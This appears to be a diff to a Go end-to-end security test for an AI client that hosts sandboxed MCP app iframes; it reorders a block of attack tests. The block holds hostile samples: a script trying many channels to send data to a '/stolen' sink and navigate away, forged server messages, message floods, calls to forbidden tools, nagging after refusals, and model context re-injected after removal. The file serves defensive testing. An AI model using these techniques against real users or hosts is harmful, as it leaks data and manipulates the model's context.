@@ -427,6 +427,98 @@ func TestAttackFilesApps(t *testing.T) {
 	leaving(t, n.in, "No")
 	n.answered()
 
+	// It asks until the user gives in: for each no another call.
+	again()
+	more := func(text string) {
+		n.act("tools/call", object{"name": "more", "arguments": object{"text": text}})
+	}
+	for i := range 3 {
+		more(fmt.Sprint("again ", i))
+		n.asks()
+		n.answer(reject)
+		holds(t, "refused", n.answered(), "isError")
+	}
+	more("once more")
+	poll.Try(func() bool {
+		return n.check(`document.getElementById("ask").hidden`) == "false" || n.inside(`answer`) != ""
+	})
+	try("a question for each no", !strings.Contains(n.inside(`answer`), "refused 3 wishes"))
+	again()
+	more("when the user has opened it")
+	n.asks()
+	n.answer(once)
+	control("a question for each no", strings.Contains(n.answered(), "the page had"))
+
+	// Tools that are not for it.
+	again()
+	n.enter()
+	for _, name := range []string{"model", "sales_model", "write", "code_run", "bash", "read", "undo"} {
+		n.check(`void (servers.sales.got.length = 0)`)
+		n.act("tools/call", object{"name": name, "arguments": object{}})
+		got := n.answered()
+		try("the tool "+name, !strings.Contains(got, "isError\":true") || strings.Contains(n.check(`String(servers.sales.got)`), "tools/call"))
+	}
+
+	// Sizes, floods and other messages.
+	outside()
+	for _, px := range []string{"1e9", "-5", "0.001", "1e308", "NaN", "'9999'"} {
+		n.inside(`(send({method: "ui/notifications/size-changed", params: {width: 1e9, height: ` + px + `}}), 1)`)
+		n.inside(`(act("ping", {}), 1)`)
+		n.answered()
+		try("a height of "+px, n.check(`(() => { const r = document.querySelector(".app iframe").getBoundingClientRect(); return r.height > document.getElementById("talk").clientHeight || r.width > document.querySelector(".paper").clientWidth; })()`) == "true")
+	}
+	n.check(`void (document.querySelector(".app iframe").style.height = "9999px")`)
+	control("a height", n.check(`document.querySelector(".app iframe").getBoundingClientRect().height > document.getElementById("talk").clientHeight`) == "true")
+	n.inside(`(window.top.postMessage({type: "bailey-mcp", name: "forged"}, "*", [new MessageChannel().port2]), 1)`)
+	n.inside(`(act("ping", {}), 1)`)
+	n.answered()
+	try("it offers a server", strings.Contains(n.check(`document.getElementById("servers").innerText`), "forged"))
+	// A context that comes back as often as the user removes it.
+	again()
+	n.act("ui/update-model-context", object{"content": []any{object{"type": "text", "text": "one"}}})
+	n.answered()
+	attached := `document.getElementById("attached").innerText.includes("Context from")`
+	n.wait("the context is attached", attached)
+	control("a context", n.check(attached) == "true")
+	n.check(`void document.querySelector("#attached button").click()`)
+	n.wait("it is removed", `!`+attached)
+	n.act("ui/update-model-context", object{"content": []any{object{"type": "text", "text": "two"}}})
+	n.answered()
+	n.act("ping", object{})
+	n.answered()
+	try("a context that was removed", n.check(attached) == "true")
+
+	// Data sent away, and the page left.
+	ways := `(async () => {
+		const to = ` + js(sink.URL) + ` + "/stolen", quiet = (f) => { try { const r = f(); if (r && r.catch) r.catch(() => {}); } catch (e) {} };
+		quiet(() => fetch(to, {mode: "no-cors", method: "POST", body: "x"})); quiet(() => navigator.sendBeacon(to, "x")); quiet(() => new WebSocket(to.replace("http", "ws"))); quiet(() => new EventSource(to));
+		quiet(() => { const x = new XMLHttpRequest(); x.open("GET", to); x.send(); });
+		for (const [tag, key] of [["img", "src"], ["script", "src"], ["iframe", "src"], ["video", "src"], ["embed", "src"], ["object", "data"]]) quiet(() => { const e = document.createElement(tag); e[key] = to; document.body.append(e); });
+		quiet(() => { const e = document.createElement("link"); e.rel = "stylesheet"; e.href = to; document.head.append(e); });
+		quiet(() => { const e = document.createElement("form"); e.action = to; e.method = "post"; document.body.append(e); e.submit(); e.requestSubmit(); });
+		quiet(() => window.open(to)); quiet(() => { top.location = to; }); quiet(() => { parent.location = to; });
+		await new Promise((r) => setTimeout(r, 50)); globalThis.tried = true;
+	})()`
+	n.inside(ways)
+	n.insideHolds("all ways are tried", `globalThis.tried === true`)
+	mu.Lock()
+	try("data are sent away", len(heard) > 0)
+	mu.Unlock()
+	try("the page is left", !strings.Contains(n.check(`location.pathname`), "/files"))
+	// The same from a window without the walls.
+	other, err := launch(t, e2e.Options{}).Page(ctx, sink.URL+"/control")
+	must(t, err)
+	defer other.Close()
+	must(t, other.Eval(ctx, `fetch(`+js(sink.URL+"/stolen")+`, {method: "POST", body: "x"}).then(() => 1)`, nil))
+	mu.Lock()
+	control("data are sent away", strings.Contains(strings.Join(heard, " "), "POST /stolen"))
+	mu.Unlock()
+
+	// A flood ends it, and the page goes on.
+	n.inside(`(() => { for (let i = 0; i < 5000; i++) send({id: "f" + i, method: "ui/update-model-context", params: {content: [{type: "text", text: "x".repeat(1000)}]}}); return 1; })()`)
+	n.wait("it was ended", `!document.querySelector(".app iframe") && document.querySelector(".app").innerText.includes("It was ended")`)
+	holds(t, "the page works", n.one("", "read", "path", "notes/plan.md"), "TODO")
+
 	// It takes the keyboard from the user's text. Without the defence it keeps it.
 	const steals = `(document.getElementById("field").focus(), window.focus(), document.getElementById("field").select(), 1)`
 	undefended := func() { // as if the pointer were on it
@@ -511,96 +603,6 @@ func TestAttackFilesApps(t *testing.T) {
 	n.check(`void document.getElementById("ask").shadowRoot.querySelector("button").focus()`)
 	n.answer(reject)
 	n.rested()
-
-	// It asks until the user gives in: for each no another call.
-	again()
-	more := func(text string) {
-		n.act("tools/call", object{"name": "more", "arguments": object{"text": text}})
-	}
-	for i := range 3 {
-		more(fmt.Sprint("again ", i))
-		n.asks()
-		n.answer(reject)
-		holds(t, "refused", n.answered(), "isError")
-	}
-	more("once more")
-	poll.Try(func() bool {
-		return n.check(`document.getElementById("ask").hidden`) == "false" || n.inside(`answer`) != ""
-	})
-	try("a question for each no", !strings.Contains(n.inside(`answer`), "refused 3 wishes"))
-	again()
-	more("when the user has opened it")
-	n.asks()
-	n.answer(once)
-	control("a question for each no", strings.Contains(n.answered(), "the page had"))
-
-	// Tools that are not for it.
-	for _, name := range []string{"model", "sales_model", "write", "code_run", "bash", "read", "undo"} {
-		n.check(`void (servers.sales.got.length = 0)`)
-		n.act("tools/call", object{"name": name, "arguments": object{}})
-		got := n.answered()
-		try("the tool "+name, !strings.Contains(got, "isError\":true") || strings.Contains(n.check(`String(servers.sales.got)`), "tools/call"))
-	}
-
-	// Sizes, floods and other messages.
-	outside()
-	for _, px := range []string{"1e9", "-5", "0.001", "1e308", "NaN", "'9999'"} {
-		n.inside(`(send({method: "ui/notifications/size-changed", params: {width: 1e9, height: ` + px + `}}), 1)`)
-		n.inside(`(act("ping", {}), 1)`)
-		n.answered()
-		try("a height of "+px, n.check(`(() => { const r = document.querySelector(".app iframe").getBoundingClientRect(); return r.height > document.getElementById("talk").clientHeight || r.width > document.querySelector(".paper").clientWidth; })()`) == "true")
-	}
-	n.check(`void (document.querySelector(".app iframe").style.height = "9999px")`)
-	control("a height", n.check(`document.querySelector(".app iframe").getBoundingClientRect().height > document.getElementById("talk").clientHeight`) == "true")
-	n.inside(`(window.top.postMessage({type: "bailey-mcp", name: "forged"}, "*", [new MessageChannel().port2]), 1)`)
-	n.inside(`(act("ping", {}), 1)`)
-	n.answered()
-	try("it offers a server", strings.Contains(n.check(`document.getElementById("servers").innerText`), "forged"))
-	// A context that comes back as often as the user removes it.
-	again()
-	n.act("ui/update-model-context", object{"content": []any{object{"type": "text", "text": "one"}}})
-	n.answered()
-	attached := `document.getElementById("attached").innerText.includes("Context from")`
-	n.wait("the context is attached", attached)
-	control("a context", n.check(attached) == "true")
-	n.check(`void document.querySelector("#attached button").click()`)
-	n.wait("it is removed", `!`+attached)
-	n.act("ui/update-model-context", object{"content": []any{object{"type": "text", "text": "two"}}})
-	n.answered()
-	n.act("ping", object{})
-	n.answered()
-	try("a context that was removed", n.check(attached) == "true")
-
-	// Data sent away, and the page left.
-	ways := `(async () => {
-		const to = ` + js(sink.URL) + ` + "/stolen", quiet = (f) => { try { const r = f(); if (r && r.catch) r.catch(() => {}); } catch (e) {} };
-		quiet(() => fetch(to, {mode: "no-cors", method: "POST", body: "x"})); quiet(() => navigator.sendBeacon(to, "x")); quiet(() => new WebSocket(to.replace("http", "ws"))); quiet(() => new EventSource(to));
-		quiet(() => { const x = new XMLHttpRequest(); x.open("GET", to); x.send(); });
-		for (const [tag, key] of [["img", "src"], ["script", "src"], ["iframe", "src"], ["video", "src"], ["embed", "src"], ["object", "data"]]) quiet(() => { const e = document.createElement(tag); e[key] = to; document.body.append(e); });
-		quiet(() => { const e = document.createElement("link"); e.rel = "stylesheet"; e.href = to; document.head.append(e); });
-		quiet(() => { const e = document.createElement("form"); e.action = to; e.method = "post"; document.body.append(e); e.submit(); e.requestSubmit(); });
-		quiet(() => window.open(to)); quiet(() => { top.location = to; }); quiet(() => { parent.location = to; });
-		await new Promise((r) => setTimeout(r, 50)); globalThis.tried = true;
-	})()`
-	n.inside(ways)
-	n.insideHolds("all ways are tried", `globalThis.tried === true`)
-	mu.Lock()
-	try("data are sent away", len(heard) > 0)
-	mu.Unlock()
-	try("the page is left", !strings.Contains(n.check(`location.pathname`), "/files"))
-	// The same from a window without the walls.
-	other, err := launch(t, e2e.Options{}).Page(ctx, sink.URL+"/control")
-	must(t, err)
-	defer other.Close()
-	must(t, other.Eval(ctx, `fetch(`+js(sink.URL+"/stolen")+`, {method: "POST", body: "x"}).then(() => 1)`, nil))
-	mu.Lock()
-	control("data are sent away", strings.Contains(strings.Join(heard, " "), "POST /stolen"))
-	mu.Unlock()
-
-	// A flood ends it, and the page goes on.
-	n.inside(`(() => { for (let i = 0; i < 5000; i++) send({id: "f" + i, method: "ui/update-model-context", params: {content: [{type: "text", text: "x".repeat(1000)}]}}); return 1; })()`)
-	n.wait("it was ended", `!document.querySelector(".app iframe") && document.querySelector(".app").innerText.includes("It was ended")`)
-	holds(t, "the page works", n.one("", "read", "path", "notes/plan.md"), "TODO")
 }
 
 // The app at rest and in the whole window, while it and its call ask, in light and dark, wide and narrow.
